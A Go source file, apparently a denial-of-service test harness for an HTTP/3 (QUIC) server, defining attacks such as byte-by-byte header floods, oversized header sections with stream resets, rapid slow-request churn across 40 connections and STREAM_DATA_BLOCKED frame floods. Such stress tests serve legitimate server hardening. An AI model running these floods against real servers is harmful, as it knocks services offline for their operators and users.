package attack

import (
	"strings"

	"github.com/godwit-quic/godwit/internal/h3"
	"github.com/godwit-quic/godwit/internal/wire"
)

var pieceRows = []Row{
	{Name: "half-types", Class: "MAX_PUSH_ID/SETTINGS churn", run: halfTypes,
		Does: "names 128 requests to come in PRIORITY_UPDATE frames, and resets unidirectional streams after half of their type"},
	{Name: "header-bytes", Class: "frame flood", run: headerBytes,
		Does: "sends headers byte by byte, on as many streams as there may be"},
	{Name: "large-headers-reset", Class: "H3 field-section bomb", run: largeHeaders,
		Does: "sends headers of 30 KB, which are not decoded on the loop, and resets their streams"},
	{Name: "rejected-requests", Class: "Rapid-reset/stream churn", run: rejected,
		Does: "asks for what takes a minute on every stream of 40 connections, and again for whatever was rejected"},
	{Name: "stream-blocked", Class: "MAX_STREAMS frames flood", run: frames(func(c *conn, b []byte, i int) []byte {
		for n := uint64(i) * 100; len(b) < maxPayload-20; n++ {
			b = wire.AppendStreamDataBlocked(b, wire.StreamDataBlocked{ID: wire.NewStreamID(wire.ClientSide, false, n%100), Max: n})
		}
		return b
	}), Does: "says that streams are blocked which have ended or not begun"},
}

func halfTypes(a *attacker) error {
	c, err := a.dial(dialing{})
	if err != nil {
		return err
	}
	var b []byte
	for i := range uint64(128) {
		b = append(b, frame(h3.FramePriorityUpdate, append(wire.AppendVarint(nil, 1<<20+4*i), "u=1"...))...)
	}
	c.control().write(b, false)
	a.openFull(c, true, maxPayload-40, func(b []byte, x *stream) []byte {
		b = x.append(b, []byte{0x40}, false)
		return wire.AppendResetStream(b, wire.ResetStream{ID: x.id, FinalSize: x.off})
	})
	return nil
}

func headerBytes(a *attacker) error {
	c, err := a.dial(dialing{})
	if err != nil {
		return err
	}
	c.window = lossy
	head := getRequest("/hello", "x-padding="+strings.Repeat("a", 500))
	var open []*stream
	a.begun()
	requests := 0
	n := a.eachConn(20_000, []*conn{c}, func(c *conn) bool {
		for s, ok := c.open(false); ok; s, ok = c.open(false) {
			open = append(open, s)
			requests++
		}
		b := c.payload[:0]
		for i := 0; i < len(open) && len(b) < maxPayload-20; {
			s := open[i]
			at := int(s.off)
			b = s.append(b, head[at:at+1], at == len(head)-1)
			if at < len(head)-1 {
				i++
				continue
			}
			open = append(open[:i], open[i+1:]...)
		}
		if len(open) > 0 { // those that were not served come first the next time
			turn := min(len(open), 100)
			open = append(open[turn:], open[:turn]...)
		}
		c.payload = b
		if len(b) > 0 {
			c.send(b)
		}
		return true
	})
	a.notef("%d packets, %d requests; %s", n, requests, ends([]*conn{c}))
	return nil
}

func largeHeaders(a *attacker) error {
	conns, err := a.dialMany(4, dialing{})
	if err != nil {
		return err
	}
	for _, c := range conns {
		c.window = lossy
	}
	head := getRequest("/hello", "x-large="+strings.Repeat("~", 15_000), "x-larger="+strings.Repeat("~", 15_000))
	a.begun()
	n := 0
	a.eachConn(500, conns, func(c *conn) bool {
		if s, ok := c.open(false); ok {
			n++
			s.write(head, false)
			c.send(wire.AppendResetStream(nil, wire.ResetStream{ID: s.id, Code: uint64(h3.RequestCancelled), FinalSize: s.off}))
		}
		return true
	})
	a.notef("%d requests; %s", n, ends(conns))
	return nil
}

func rejected(a *attacker) error {
	conns, err := a.dialMany(40, dialing{})
	if err != nil {
		return err
	}
	for _, c := range conns {
		c.window = lossy
	}
	a.begun()
	n := 0
	a.eachConn(10_000, conns, func(c *conn) bool {
		if c.get("/slow?ms=60000") {
			n++
		}
		return true
	})
	a.notef("%d requests; %s", n, ends(conns))
	return nil
}
